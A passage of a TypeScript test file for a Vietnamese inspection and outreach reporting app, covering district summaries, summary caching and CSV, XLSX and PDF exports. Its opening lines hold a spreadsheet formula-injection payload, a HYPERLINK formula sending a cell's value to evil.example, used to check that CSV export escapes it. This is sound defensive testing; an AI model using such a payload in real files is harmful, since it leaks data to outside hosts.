    const cells = csv.flat().filter((cell) => cell.includes('HYPERLINK'));
    expect(cells).toEqual(['\'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")']);
  });
});

describe('a commune formed from two districts', () => {
  it('counts, for a person who sees only the other district, in their own row, so their rows add up to their total', async () => {
    const fresh = await buildTestApp({ now: () => new Date('2025-12-15T03:00:00Z'), env: { SESSION_IDLE_MINUTES: '43200' } });
    try {
      const { catalog } = fresh.app;
      // A commune in two districts' families whose main origin is the first of them.
      let pair: { commune: number; other: number } | undefined;
      for (const district of catalog.districts) {
        for (const commune of catalog.districtFamily(district.id).slice(1)) {
          const primary = catalog.primaryDistrictOf(commune);
          if (primary !== undefined && primary !== district.id) pair = { commune, other: district.id };
        }
      }
      expect(pair).toBeDefined();
      const writer = await loginAs(fresh.app, 'inspector');
      await writer.post('/outreach', outreachForm({ activityDate: '10/09/2025', areaId: pair!.commune, village: '', format: 'village_meeting', channel: 'in_person', targetGroups: ['students'], organisingAgency: 'womens_union', participantsTotal: '50', participantsWomen: '30' }));
      const scoped = await loginAs(fresh.app, 'auditor', { areaId: pair!.other });
      const $ = html((await scoped.get('/reports/districts?from=01/01/2025&to=31/12/2025&group=outreach')).body);
      const cells = (selector: string) => $(`${selector} td[data-figure="participants"]`).text().trim();
      expect(cells(`#summary-table tr[data-area="${pair!.other}"][data-part="after"]`)).toBe('50');
      expect(cells('#summary-table tr[data-area="total"]')).toBe('50');
    } finally {
      await fresh.close();
    }
  });
});

describe('a summary asked for again', () => {
  it('is remembered until the data changes, then shows the change at once', async () => {
    let statements = 0;
    const fresh = await buildTestApp({
      now: () => new Date('2025-12-15T03:00:00Z'),
      env: { SESSION_IDLE_MINUTES: '43200' },
      onStatement: (source) => {
        if (/from outreach_activities o where/.test(source)) statements += 1;
      },
    });
    try {
      const freshHead = await loginAs(fresh.app, 'department_head');
      const freshInspector = await loginAs(fresh.app, 'inspector');
      const phuYen = district(fresh.app, 'Phù Yên').id;
      const phuYenRow = async () => (await pageTable(freshHead)).find((cells) => cells[0] === 'Huyện Phù Yên (đến 30/06/2025)')!;
      expect((await phuYenRow()).slice(15, 18)).toEqual(['0', '0', '0']);
      statements = 0;
      expect((await phuYenRow()).slice(15, 18)).toEqual(['0', '0', '0']);
      expect(statements).toBe(0); // served from memory: the outreach figures were not read again
      await freshInspector.post('/outreach', outreachForm({ activityDate: '02/05/2025', areaId: phuYen, village: '', format: 'village_meeting', channel: 'in_person', targetGroups: ['students'], organisingAgency: 'womens_union', participantsTotal: '40', participantsWomen: '25' }));
      expect((await phuYenRow()).slice(15, 18)).toEqual(['1', '40', '25']);
      expect(statements).toBe(1);
    } finally {
      await fresh.close();
    }
  });
});

describe('a summary and its files', () => {
  it('are computed once for the page, its CSV, XLSX and PDF, and again as soon as an approved report changes', async () => {
    let computations = 0;
    const fresh = await buildTestApp({
      now: () => new Date('2025-12-15T03:00:00Z'),
      env: { SESSION_IDLE_MINUTES: '43200' },
      // A summary reads its period's reports with this query, once per computation.
      onStatement: (source) => {
        if (/as venues,/.test(source) && /from checks c/.test(source)) computations += 1;
      },
    });
    try {
      const freshHead = await loginAs(fresh.app, 'department_head');
      const freshInspector = await loginAs(fresh.app, 'inspector');
      const bacYen = district(fresh.app, 'Bắc Yên').id;
      const roundId = createRoundWithTeam(fresh.app, [freshInspector.user.id]);
      const reportId = createReport(fresh.app, { roundId, venueId: createVenue(fresh.app), inspectorId: freshInspector.user.id, reviewerId: freshHead.user.id, status: 'approved', violations: ['E2'] });
      const groupOf: Record<string, string> = { critical: 'findings', criticalReferred: 'findings', staffCounselled: 'outreach' };
      const figure = async (name: string) => html((await freshHead.get(`/reports/districts?${period}&group=${groupOf[name]}`)).body)(`#summary-table tr[data-area="${bacYen}"][data-part="before"] td[data-figure="${name}"]`).text().trim();

      computations = 0;
      expect(await figure('critical')).toBe('1');
      expect(await figure('criticalReferred')).toBe('0');
      for (const format of ['csv', 'xlsx', 'pdf']) expect((await freshHead.get(`/reports/districts.${format}?${period}`)).statusCode).toBe(200);
      // Signing in, the page views and the three audited exports wrote to the database: none of it is a summary's input.
      expect(computations).toBe(1);

      const finding = fresh.app.db.get<{ id: number }>(sql`select id from findings where check_id = ${reportId} and item_code = 'E2'`)!;
      await freshHead.post(`/findings/${finding.id}/referral`, { agency: 'police', referredOn: '12/03/2025', reference: 'CA-2', victimDetails: '', version: '1' });
      expect(await figure('criticalReferred')).toBe('1');
      expect(computations).toBe(2);

      // A correction written through another connection (a script, the command line) is seen as well.
      const other = new Database(fresh.config.databaseFile);
      other.prepare('update checks set staff_counselled = 9 where id = ?').run(reportId);
      other.close();
      expect(await figure('staffCounselled')).toBe('9');
      expect(computations).toBe(3);
    } finally {
      await fresh.close();
    }
  });
});

async function pdfText(bytes: Buffer): Promise<string> {
  const pdfjs = await import('pdfjs-dist/legacy/build/pdf.mjs');
  const document = await pdfjs.getDocument({ data: new Uint8Array(bytes), useSystemFonts: false, isEvalSupported: false }).promise;
  const parts: string[] = [];
  for (let page = 1; page <= document.numPages; page += 1) {
    const content = await (await document.getPage(page)).getTextContent();
    parts.push(content.items.map((item) => ('str' in item ? item.str : '')).join(' '));
  }
  return parts.join('\n');
}
